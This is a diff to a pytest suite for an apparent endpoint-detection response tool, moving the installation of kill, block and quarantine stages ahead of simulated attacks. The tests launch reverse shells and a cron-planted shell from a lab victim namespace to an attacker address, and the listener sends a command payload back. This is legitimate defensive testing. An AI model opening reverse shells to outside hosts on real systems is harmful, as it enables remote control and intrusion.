@@ -72,19 +72,29 @@ def write_config(tmp_path: Path, **response: Any) -> tuple[ResponseConfig, Path]
     return parse_config(path.read_text(), str(path)).response, path
 
 
+class Stage:
+    """A response stage on the session's sensor, acting only on alerts of the tree rooted at ``root``."""
+
+    def __init__(self, responder: Responder) -> None:
+        self.responder = responder
+        self.root: int | None = None  # set once the attack is started; until then nothing is acted on
+
+
 @pytest.fixture
-def respond(sensorlab: Any) -> Iterator[Callable[[ResponseConfig, int], Responder]]:
-    """Install a response stage on the session's sensor for alerts of one process tree; removed afterwards."""
+def respond(sensorlab: Any) -> Iterator[Callable[[ResponseConfig], Stage]]:
+    """Install a response stage (loaded before the attack starts: compiling the block program takes seconds);
+    removed and closed afterwards."""
     made: list[Responder] = []
     errors: list[BaseException] = []
 
-    def install(config: ResponseConfig, root: int) -> Responder:
+    def install(config: ResponseConfig) -> Stage:
         responder = open_responder(config, sensorlab.pipeline.table)
         assert responder is not None
         made.append(responder)
+        stage = Stage(responder)
 
         def only_ours(alert: dict[str, Any]) -> dict[str, Any]:
-            if root not in alert_pids(alert):
+            if stage.root is None or stage.root not in alert_pids(alert):
                 return alert  # another test's (or session's) alert: never acted on
             try:
                 return responder(alert)
@@ -92,7 +102,7 @@ def respond(sensorlab: Any) -> Iterator[Callable[[ResponseConfig, int], Responde
                 errors.append(exc)
                 return alert
         sensorlab.respond = only_ours
-        return responder
+        return stage
 
     try:
         yield install
@@ -152,11 +162,12 @@ def test_kill_takes_the_reverse_shell_tree_and_nothing_else(sensorlab, netlab, r
     sibling_file, rc_file = tmp_path / "sibling.pid", tmp_path / "rc"
     script = (f"sleep 60 & echo $! > {sibling_file}; sleep 0.5; {shell(netlab.attacker_ip4, port)}; "
               f"echo $? > {rc_file}; sleep 30")
+    stage = respond(write_config(tmp_path, actions=["kill"])[0])
     mark = sensorlab.mark()
     amark = sensorlab.alert_mark()
     wrapper = netlab.spawn(netlab.victim_ns, ["bash", "-c", script],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-    respond(write_config(tmp_path, actions=["kill"])[0], wrapper.pid)
+    stage.root = wrapper.pid
 
     rc = wait_file(rc_file)
     listener.wait(timeout=30)
@@ -182,10 +193,12 @@ def test_block_refuses_the_c2_address_until_unblocked(sensorlab, netlab, respond
     port = next(_ports)
     listener = netlab.listen_tcp(netlab.attacker_ns, port, bind=blocked, payload=b"echo cw-$((6*7))\nexit\n",
                                  duration=15)
+    stage = respond(config)
+    responder = stage.responder
     amark = sensorlab.alert_mark()
     wrapper = netlab.spawn(netlab.victim_ns, ["bash", "-c", f"sleep 0.5; {shell(blocked, port)}; sleep 30"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-    responder = respond(config, wrapper.pid)
+    stage.root = wrapper.pid
     assert b"cw-42" in listener.wait(timeout=30), "fixture: the reverse shell did not run the attacker's command"
     alerts = wait_alerts(sensorlab, amark, wrapper.pid, lambda sel: bool(responses(sel, "block")))
     assert responses(alerts, "block") == [
@@ -242,9 +255,10 @@ def test_quarantine_moves_the_cron_file_and_restore_puts_it_back(sensorlab, netl
     cron = f"/etc/cron.d/{name}"
     config, config_file = write_config(tmp_path, actions=["quarantine"])
     port = next(_ports)
+    stage = respond(config)
     amark = sensorlab.alert_mark()
     listener, holder, release = cron_attack(netlab, tmp_path, netlab.attacker_ip4, port, name, marker)
-    respond(config, holder.pid)
+    stage.root = holder.pid
     try:
         assert b"cw-42" in listener.wait(timeout=30), "fixture: the reverse shell did not run the attacker's command"
         alerts = wait_alerts(sensorlab, amark, holder.pid, lambda sel: bool(responses(sel, "quarantine")))
@@ -281,10 +295,11 @@ def test_dry_run_changes_nothing(sensorlab, netlab, respond, tmp_path) -> None:
     config, _ = write_config(tmp_path, dry_run=True)
     assert config.actions == ["kill", "block", "quarantine"]
     port = next(_ports)
+    stage = respond(config)
+    assert stage.responder.blocker is None, "dry-run must not load the block program"
     amark = sensorlab.alert_mark()
     listener, holder, release = cron_attack(netlab, tmp_path, address, port, name, marker)
-    responder = respond(config, holder.pid)
-    assert responder.blocker is None, "dry-run must not load the block program"
+    stage.root = holder.pid
     try:
         assert b"cw-42" in listener.wait(timeout=30), "fixture: the reverse shell did not run the attacker's command"
 
